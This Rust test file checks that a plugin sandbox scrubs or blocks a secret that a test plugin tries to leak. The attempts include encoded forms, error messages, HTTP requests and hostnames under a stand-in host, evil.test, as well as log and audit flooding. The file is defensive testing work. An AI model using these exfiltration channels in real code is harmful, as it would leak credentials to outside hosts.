//! Ways out that are not requests. The test gives the plugin a secret to say, as if it had one.

use base64::Engine as _;
use base64::engine::general_purpose::STANDARD;
use serde_json::{Value, json};
use wharf_engine::Outcome;

use crate::attacks;
use crate::world::secret;

fn api() -> &'static str {
    secret("api")
}

attacks! {
    said_everywhere: "says a secret in the log, in fields and their names, as progress, on standard output and error, and as output" => "replaced by its name", |world| {
        let told = world.told(json!([{ "do": "say", "parts": [api()] }])).await;
        assert_eq!(told[0]["ok"], "[secret api]");
        assert!(world.spy.told().matches("[secret api]").count() >= 5, "{}", world.spy.told());
    }
    said_in_pieces: "says it a few letters at a time" => "found across the borders of writes", |world| {
        let parts: Vec<String> = api().chars().map(String::from).collect();
        world.told(json!([{ "do": "say", "parts": parts }, { "do": "say", "parts": ["x", &api()[..9], &api()[9..], "y"] }])).await;
        assert!(world.spy.told().contains("x[secret api]y"), "{}", world.spy.told());
    }
    said_encoded: "says it in base64, at another alignment, in hexadecimal, small and capital" => "found in each", |world| {
        let hex: String = api().bytes().map(|b| format!("{b:02x}")).collect();
        let forms = [STANDARD.encode(api()), STANDARD.encode(format!("ab{}", api())), hex.clone(), hex.to_uppercase(),];
        for form in forms {
            world.told(json!([{ "do": "say", "parts": [form] }])).await;
        }
    }
    said_as_an_error: "fails with a message that holds it" => "scrubbed", |world| {
        let report = world.run(&world.wide(), json!([{ "do": api() }])).await;
        assert!(matches!(&report.outcome, Outcome::Failed(_)) && format!("{report:?}").contains("[secret api]"), "{report:?}");
    }
    said_in_a_request: "puts it into path, query, fragment, header and body of a refused and of a granted request" => "what is told of requests has no query, and the rest is scrubbed, as is what comes back; only the server that the secret is for got it", |world| {
        let told = world.told(json!([
            { "do": "http", "url": format!("http://10.0.0.1/{0}?q={0}#{0}", api()) },
            { "do": "http", "url": format!("http://a:{}@a.test/", api()) },
            { "do": "http", "url": "http://10.0.0.1/", "method": api() },
            { "do": "http", "url": "http://10.0.0.1/", "headers": [[format!("{}:", api()), "x"]] },
        ])).await;
        assert!(told.iter().all(|result| result.get("err").is_some()), "{told:?}");
        assert!(!world.spy.told().contains("q="), "{}", world.spy.told());
        // Of the server that has this secret by its binding anyway, in the case of the granted one.
        let url = format!("{}/v1/plain?q={}", world.trusted.origin(), api());
        let told = world.told(json!([
            { "do": "http", "method": "POST", "url": "http://10.0.0.1/", "body": format!("body {}", api()) },
            { "do": "http", "method": "POST", "url": url, "headers": [["x-said", api()]], "body": format!("body {}", api()) },
        ])).await;
        assert!(told[0].get("err").is_some(), "{told:?}");
        let echoed = told[1]["ok"]["body"].as_str().unwrap();
        for said in ["?q=[secret api]", "x-said: [secret api]", "body [secret api]"] {
            assert!(echoed.contains(said), "{said}: {echoed}");
        }
        assert!(!world.spy.told().contains("q="), "{}", world.spy.told());
        for said in [format!("?q={}", api()), format!("x-said: {}\r\n", api()), format!("body {}", api())] {
            world.trusted.forget(&said);
        }
    }
    said_in_a_host_name: "puts it into names of hosts, which are given in small letters, through every door" => "found in small letters as well, in errors, log and audit; no name server is asked", |world| {
        let policy = world.policy("http = [{ origin = 'http://only.test' }]\ntcp = [{ host = 'only.test', ports = [1] }]");
        let told = world.told_under(&policy, json!([
            { "do": "http", "url": format!("http://{}.evil.test/", api()) },
            { "do": "http", "url": format!("http://{}/", STANDARD.encode(format!("ab{}", api())).trim_end_matches('=')) },
            { "do": "wasi", "authority": format!("x.{}.test", api()), "path": "/" },
            { "do": "tcp", "to": format!("{}.test:1", api()), "receive": 0 },
            { "do": "lookup", "name": format!("{}.test", api()) },
        ])).await;
        assert!(told.iter().all(|result| result.get("err").is_some()), "{told:?}");
        assert!(told[0]["err"].as_str().unwrap().contains("http://[secret api].evil.test/"), "{told:?}");
        assert!(world.spy.told().matches("RequestDenied").count() >= 5, "{}", world.spy.told());
        assert!(world.dns.asked().is_empty(), "{:?}", world.dns.asked());
    }
    names_to_look_up: "puts data into names that it has looked up, without a grant of them" => "no name server is asked", |world| {
        let policy = world.policy("http = [{ origin = 'http://only.test' }]\ntcp = [{ host = 'only.test', ports = [1] }]");
        world.told_under(&policy, json!([
            { "do": "http", "url": "http://data.evil.test/" },
            { "do": "http", "url": "http://data.only.test/" },
            { "do": "wasi", "authority": "data.evil.test", "path": "/" },
            { "do": "tcp", "to": "data.evil.test:1", "receive": 0 },
            { "do": "lookup", "name": "data.evil.test" },
        ])).await;
        assert!(world.dns.asked().is_empty(), "{:?}", world.dns.asked());
    }
    volumes_of_log: "logs without end: lines, fields, empty fields, standard output and error" => "past the budget lines are counted and dropped", |world| {
        let policy = world.limited("log-entries = 20, log-bytes = '4KiB'");
        for (what, bytes) in [("log", 100), ("fields", 10), ("fields-empty", 0), ("stdout", 100), ("stderr", 100), ("stdout-without-end", 1000)] {
            let before = world.spy.told().len();
            let report = world.run(&policy, json!([{ "do": "noise", "what": what, "count": 2000, "bytes": bytes }])).await;
            assert!(matches!(report.outcome, Outcome::Done(_)), "{what}: {report:?}");
            assert!(report.usage.log_bytes <= 4096 && report.usage.log_lines_dropped > 0, "{what}: {:?}", report.usage);
            let told = world.spy.told().len() - before;
            assert!(told < 30_000, "{what}: {told} bytes");
        }
    }
    volumes_of_refusals: "makes refused requests without end, to write messages into the audit record" => "counted as requests; past a number they are told as a count", |world| {
        let policy = world.limited("requests = 600");
        let script: Vec<Value> = (0..700).map(|n| json!({ "do": "http", "url": format!("http://10.0.0.1/{n}/{}", "x".repeat(1000)) })).collect();
        let told = world.told_under(&policy, script.into()).await;
        assert!(told[699]["err"].as_str().unwrap().contains("600 requests"), "{}", told[699]);
        let audited = world.spy.told().matches("RequestDenied").count();
        assert!((1..=256).contains(&audited) && world.spy.told().contains("RefusalsUntold"), "{audited}");
    }
    long_progress: "reports progress in long messages" => "cut", |world| {
        world.told(json!([{ "do": "noise", "what": "progress", "count": 5, "bytes": 100_000 }])).await;
        assert!(world.spy.told().len() < 12_000);
    }
}
